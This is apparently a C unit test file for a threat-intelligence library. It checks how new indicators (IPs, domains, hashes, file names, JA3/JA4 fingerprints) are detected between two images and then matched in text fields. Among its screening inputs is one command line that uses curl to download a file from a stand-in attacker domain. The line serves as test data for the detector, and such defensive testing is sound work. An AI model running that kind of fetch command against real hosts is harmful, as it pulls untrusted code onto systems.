/* What is new in an image is told, all of it and nothing else, and found in texts however they are spelled. */
#include "base/test.h"

#include <stdio.h>

#include "intel/builder.h"
#include "intel/news.h"

#define NOW (INT64_C(20000) * TIME_DAY_US)
#define MANY 20000

struct image {
    struct intel_builder *builder;
    struct buf file;
    struct intel *intel;
};

static void begin_at(struct image *image, int64_t now)
{
    *image = (struct image){.builder = intel_builder_new(now)};
    assert_non_null(image->builder);
}

static void begin(struct image *image)
{
    begin_at(image, NOW);
}

static void add_until(struct image *image, enum indicator_type type, const char *value,
                      int64_t until)
{
    const struct indicator indicator = {.type = type,
                                        .value = str_from_c(value),
                                        .source = STR("feed"),
                                        .confidence = 50,
                                        .from = TIME_UNSET,
                                        .until = until};
    assert_int_equal(intel_builder_add(image->builder, &indicator), 0);
}

static void add(struct image *image, enum indicator_type type, const char *value)
{
    add_until(image, type, value, TIME_UNSET);
}

static void ready(struct image *image)
{
    struct err err;
    assert_int_equal(intel_builder_finish(image->builder, &image->file), 0);
    image->intel = intel_open(buf_str(&image->file), &err);
    assert_non_null(image->intel);
}

static void end(struct image *image)
{
    intel_close(image->intel);
    buf_free(&image->file);
    intel_builder_free(image->builder);
}

static int put(void *context, struct str bytes)
{
    buf_add_str(context, bytes);
    return 0;
}

/* News of `now` against `before`; how many there are in all. The list lives in *list. */
static uint64_t compare(const struct image *before, const struct image *now, struct buf *list,
                        struct intel_news **ret_news)
{
    uint64_t counts[INDICATOR_COUNT], sum = 0;
    struct err err;
    assert_int_equal(intel_news_write(before ? before->intel : NULL, now->intel, put, list, counts),
                     0);
    for (int i = 0; i < INDICATOR_COUNT; i++)
        sum += counts[i];
    *ret_news = intel_news_open(buf_str(list), now->intel, &err);
    if (!*ret_news)
        fail_msg("%s", err.message);
    return sum;
}

static const struct {
    enum indicator_type type;
    const char *old, *new;
} SAMPLES[] = {
    {INDICATOR_IPV4, "192.0.2.1", "192.0.2.2"},
    {INDICATOR_IPV6, "2001:db8::1", "2001:db8::2"},
    {INDICATOR_CIDR4, "198.51.100.0/24", "198.51.100.0/25"},
    {INDICATOR_CIDR6, "2001:db8:1::/48", "2001:db8:2::/48"},
    {INDICATOR_DOMAIN, "evil.example", "worse.example"},
    {INDICATOR_HOST, "www.bad.example", "ftp.bad.example"},
    {INDICATOR_URL, "http://evil.example/x", "http://evil.example/y"},
    {INDICATOR_MD5, "d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427f"},
    {INDICATOR_SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709",
     "da39a3ee5e6b4b0d3255bfef95601891afd80709"},
    {INDICATOR_SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
     "e3b0c44298fc1c149afbf4c8996fb92527ae41e4649b934ca495991b7852b855"},
    {INDICATOR_EMAIL, "bad@evil.example", "worse@evil.example"},
    {INDICATOR_FILE_NAME, "evil.exe", "worse.exe"},
    {INDICATOR_FILE_PATH, "c:\\evil.exe", "c:\\worse.exe"},
    {INDICATOR_JA3, "e7d705a3286e19ea42f587b344ee6865", "e7d705a3286e19ea42f587b344ee6866"},
    {INDICATOR_JA4, "t13d1516h2_8daaf6152771_b186095e22b6", "t13d1516h2_8daaf6152771_b186095e22b7"},
    {INDICATOR_USER_AGENT, "Evil/1.0", "Evil/1.1"},
};
#define N_SAMPLES (sizeof(SAMPLES) / sizeof(SAMPLES[0]))

static void what_the_image_before_had_is_not_new(void **state)
{
    struct image before, now;
    struct buf list = {0};
    struct intel_news *news;
    (void)state;
    begin(&before);
    begin(&now);
    for (size_t i = 0; i < N_SAMPLES; i++) {
        add(&before, SAMPLES[i].type, SAMPLES[i].old);
        add(&now, SAMPLES[i].type, SAMPLES[i].old);
        add(&now, SAMPLES[i].type, SAMPLES[i].new);
    }
    ready(&before);
    ready(&now);
    assert_int_equal(compare(&before, &now, &list, &news), N_SAMPLES);
    for (size_t i = 0; i < N_SAMPLES; i++) {
        if (!intel_news_has(news, SAMPLES[i].type, str_from_c(SAMPLES[i].new)))
            fail_msg("%s is not new", SAMPLES[i].new);
        if (intel_news_has(news, SAMPLES[i].type, str_from_c(SAMPLES[i].old)))
            fail_msg("%s is new", SAMPLES[i].old);
    }
    intel_news_close(news);
    buf_free(&list);
    end(&before);
    end(&now);
}

static void the_same_indicators_are_no_news(void **state)
{
    struct image one, other;
    struct buf list = {0};
    struct intel_news *news;
    (void)state;
    begin(&one);
    begin(&other);
    for (size_t i = 0; i < N_SAMPLES; i++) {
        add(&one, SAMPLES[i].type, SAMPLES[i].old);
        add(&other, SAMPLES[N_SAMPLES - 1 - i].type, SAMPLES[N_SAMPLES - 1 - i].old);
    }
    add(&one, INDICATOR_DOMAIN, "gone.example");
    ready(&one);
    ready(&other);
    assert_int_equal(compare(&one, &other, &list, &news), 0);
    assert_int_equal(intel_news_types(news), 0);
    intel_news_close(news);
    buf_free(&list);
    end(&one);
    end(&other);
}

static void what_had_expired_and_is_there_again_is_new(void **state)
{
    struct image before, now;
    struct buf list = {0};
    struct intel_news *news;
    (void)state;
    begin(&before);
    begin_at(&now, NOW + 2 * TIME_DAY_US);
    for (size_t i = 0; i < N_SAMPLES; i++) {
        add_until(&before, SAMPLES[i].type, SAMPLES[i].old, NOW + TIME_DAY_US);
        add_until(&before, SAMPLES[i].type, SAMPLES[i].new, NOW + 3 * TIME_DAY_US);
        add_until(&now, SAMPLES[i].type, SAMPLES[i].old, NOW + 9 * TIME_DAY_US);
        add_until(&now, SAMPLES[i].type, SAMPLES[i].new, NOW + 9 * TIME_DAY_US);
    }
    ready(&before);
    ready(&now);
    assert_int_equal(compare(&before, &now, &list, &news), N_SAMPLES);
    for (size_t i = 0; i < N_SAMPLES; i++)
        if (!intel_news_has(news, SAMPLES[i].type, str_from_c(SAMPLES[i].old)))
            fail_msg("%s is not new", SAMPLES[i].old);
    intel_news_close(news);
    buf_free(&list);
    end(&before);
    end(&now);
}

static void with_nothing_before_all_are_new(void **state)
{
    struct image now;
    struct buf list = {0};
    struct intel_news *news;
    char text[64];
    (void)state;
    begin(&now);
    for (int i = 0; i < MANY; i++) {
        snprintf(text, sizeof(text), "10.%d.%d.1", i / 256, i % 256);
        add(&now, INDICATOR_IPV4, text);
        snprintf(text, sizeof(text), "host%d.example", i);
        add(&now, INDICATOR_DOMAIN, text);
    }
    ready(&now);
    assert_int_equal(compare(NULL, &now, &list, &news), 2 * MANY);
    for (int i = 0; i < MANY; i++) {
        snprintf(text, sizeof(text), "host%d.example", i);
        assert_true(intel_news_has(news, INDICATOR_DOMAIN, str_from_c(text)));
    }
    assert_false(intel_news_has(news, INDICATOR_DOMAIN, STR("host.example")));
    intel_news_close(news);
    buf_free(&list);
    end(&now);
}

static void texts_are_screened_as_the_matcher_looks_at_them(void **state)
{
    static const struct {
        enum field_type type;
        const char *text;
        bool hit;
    } TEXTS[] = {
        {FIELD_DOMAIN, "a.b.Worse.Example.", true},
        {FIELD_DOMAIN, "evil.example", false}, /* not new */
        {FIELD_DOMAIN, "worse.example.org", false},
        {FIELD_URL, "HTTPS://www.worse.example:443/a", true},
        {FIELD_IP, "::ffff:192.0.2.2", true},
        {FIELD_IP, "192.0.2.1, 198.51.100.5", true}, /* the new network in the old one */
        {FIELD_IP, "198.51.100.200", false},
        {FIELD_HASHES, "SHA1=00,MD5=D41D8CD98F00B204E9800998ECF8427F", true},
        {FIELD_HASHES, "MD5=D41D8CD98F00B204E9800998ECF8427E", false},
        {FIELD_COMMAND, "curl http://evil.example/%79 -o x", true},
        {FIELD_EMAIL, "Worse <WORSE@evil.example>", true},
        {FIELD_PATH, "D:\\Temp\\Worse.EXE", true},
        {FIELD_AGENT, "Evil/1.1", true},
        {FIELD_TEXT, "worse.example", false},
    };
    struct image before, now;
    struct buf list = {0};
    struct intel_news *news;
    (void)state;
    begin(&before);
    begin(&now);
    for (size_t i = 0; i < N_SAMPLES; i++) {
        add(&before, SAMPLES[i].type, SAMPLES[i].old);
        add(&now, SAMPLES[i].type, SAMPLES[i].old);
        add(&now, SAMPLES[i].type, SAMPLES[i].new);
    }
    ready(&before);
    ready(&now);
    compare(&before, &now, &list, &news);
    for (size_t i = 0; i < sizeof(TEXTS) / sizeof(TEXTS[0]); i++) {
        struct intel_screen *screen = intel_screen_new(news, TEXTS[i].type);
        bool hits[2] = {false, false};
        assert_non_null(screen);
        intel_screen_ask(screen, 1, str_from_c(TEXTS[i].text), hits);
        intel_screen_finish(screen);
        intel_screen_free(screen);
        assert_false(hits[0]);
        if (hits[1] != TEXTS[i].hit)
            fail_msg("%s", TEXTS[i].text);
    }
    intel_news_close(news);
    buf_free(&list);
    end(&before);
    end(&now);
}

static void a_damaged_list_is_refused(void **state)
{
    struct image now;
    struct buf list = {0};
    struct intel_news *news;
    struct err err;
    (void)state;
    begin(&now);
    add(&now, INDICATOR_DOMAIN, "evil.example");
    ready(&now);
    compare(NULL, &now, &list, &news);
    intel_news_close(news);
    assert_null(intel_news_open(str_first(buf_str(&list), list.len - 8), now.intel, &err));
    assert_null(intel_news_open(STR(""), now.intel, &err));
    list.ptr[list.len - 20]++; /* a count */
    assert_null(intel_news_open(buf_str(&list), now.intel, &err));
    buf_free(&list);
    end(&now);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_the_image_before_had_is_not_new),
        cmocka_unit_test(the_same_indicators_are_no_news),
        cmocka_unit_test(what_had_expired_and_is_there_again_is_new),
        cmocka_unit_test(with_nothing_before_all_are_new),
        cmocka_unit_test(texts_are_screened_as_the_matcher_looks_at_them),
        cmocka_unit_test(a_damaged_list_is_refused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
